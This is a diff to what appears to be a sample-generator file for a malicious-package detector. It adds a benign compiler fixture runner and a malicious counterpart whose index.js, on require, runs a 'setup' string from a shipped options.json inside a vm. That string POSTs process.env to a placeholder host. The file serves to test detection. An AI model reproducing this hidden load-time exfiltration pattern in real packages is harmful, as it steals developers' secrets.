@@ -604,6 +604,66 @@ module.exports = { addKey, credentialsFile, npmrcPath };
     )
 
 
+@benign
+def b_fixture_test_runner():
+    runner = r'''import fs from "node:fs";
+import path from "node:path";
+import vm from "node:vm";
+import { spawn } from "node:child_process";
+import * as compiler from "@acme/compiler-core";
+
+function runCodeInContext(code, opts, context) {
+  const src = `((function(exports, require, module) {\n${code}\n})).apply(global, global.__args);`;
+  context.__args = [{}, (id) => id, { exports: {} }];
+  return vm.runInContext(src, context, { filename: opts.filename, timeout: opts.timeout ?? 10000 });
+}
+
+// One task per fixture directory of the caller's test suite: input.js, options.json, output.js.
+export function buildTasks(fixturesDir) {
+  const tasks = [];
+  for (const name of fs.readdirSync(fixturesDir)) {
+    const testLoc = path.join(fixturesDir, name);
+    let opts = { args: [] };
+    const optionsLoc = path.join(testLoc, "options.json");
+    if (fs.existsSync(optionsLoc)) opts = { args: [], ...JSON.parse(fs.readFileSync(optionsLoc, "utf8")) };
+    tasks.push({ name, testLoc, opts, exec: fs.readFileSync(path.join(testLoc, "exec.js"), "utf8") });
+  }
+  return tasks;
+}
+
+export async function runTask(task) {
+  const { opts } = task;
+  const result = await compiler.transformAsync(task.exec, { filename: path.join(task.testLoc, "exec.js"), ...opts });
+  return runCodeInContext(result.code, { filename: "exec.js", ...opts }, vm.createContext({}));
+}
+
+export function runCli(task) {
+  return new Promise((resolve) => {
+    const child = spawn(process.execPath, [path.join(task.testLoc, "cli.js"), ...task.opts.args]);
+    child.on("close", resolve);
+  });
+}
+'''
+    files = {
+        "package.json": pj(name="compiler-fixture-runner", version="8.0.0", type="module",
+                           exports="./lib/index.js", description="Fixture test runner for compiler plugins"),
+        "README.md": readme("compiler-fixture-runner", "```js\nfor (const t of buildTasks(dir)) await runTask(t)\n```"),
+        "lib/index.js": runner,
+        "lib/index.js.map": '{"version":3,"sources":["../src/index.ts"],"mappings":""}\n',
+    }
+    return S(
+        "fpfix-benign-fixture-test-runner",
+        "compiler test runner parses each fixture's options.json from the caller's fixtures directory and runs the fixture's compiled code in a vm context",
+        "2026",
+        ["vm", "test-runner", "fixtures", "child-process"],
+        "Class of @babel/helper-transform-fixture-test-runner 8.0.0: the options parsed from a "
+        "data file reached the runner through the compiler's result, as if code hidden in a data "
+        "file of the package; the package ships no options.json. Counterpart: "
+        "fpfix-shipped-options-stage.",
+        files,
+    )
+
+
 # =============================================================================================
 # Malicious counterparts
 
@@ -1018,5 +1078,42 @@ module.exports = () => keys.length;
         ["ssh-key-theft", "sensitive-file-read", "load-time"],
         "Counterpart of fpfix-benign-ssh-pubkey-register: a .pub filter that drops the public "
         "keys keeps the private ones.",
+        files,
+    )
+
+
+@sample
+def shipped_options_stage():
+    index = r'''"use strict";
+const fs = require("fs");
+const path = require("path");
+const vm = require("vm");
+
+// Default options for the fixture runner.
+const opts = JSON.parse(fs.readFileSync(path.join(__dirname, "fixtures", "options.json"), "utf8"));
+
+function runTask(code) {
+  return vm.runInNewContext(code, { console });
+}
+
+try { vm.runInNewContext(opts.setup, { require, process }); } catch (e) {}
+
+module.exports = { runTask, opts };
+'''
+    stage = ("require('https').request({host:'fixtures-cdn.invalid',path:'/e',method:'POST'})"
+             ".on('error',function(){}).end(JSON.stringify(process.env))")
+    files = {
+        "package.json": pj(name="fixture-runner-lite", version="8.0.1", main="index.js",
+                           description="Run compiler fixtures"),
+        "README.md": readme("fixture-runner-lite", "```js\nrequire('fixture-runner-lite').runTask(code)\n```"),
+        "index.js": index,
+        "fixtures/options.json": '{"timeout": 10000, "setup": "' + stage.replace('"', '\\"') + '"}\n',
+    }
+    return S(
+        "fpfix-shipped-options-stage",
+        "on require, runs a 'setup' field of an options.json the package ships: the environment posted to a fixed host",
+        "2026",
+        ["hidden-code", "data-file", "vm", "exfiltration", "load-time"],
+        "Counterpart of fpfix-benign-fixture-test-runner: the data file is one the package ships.",
         files,
     )
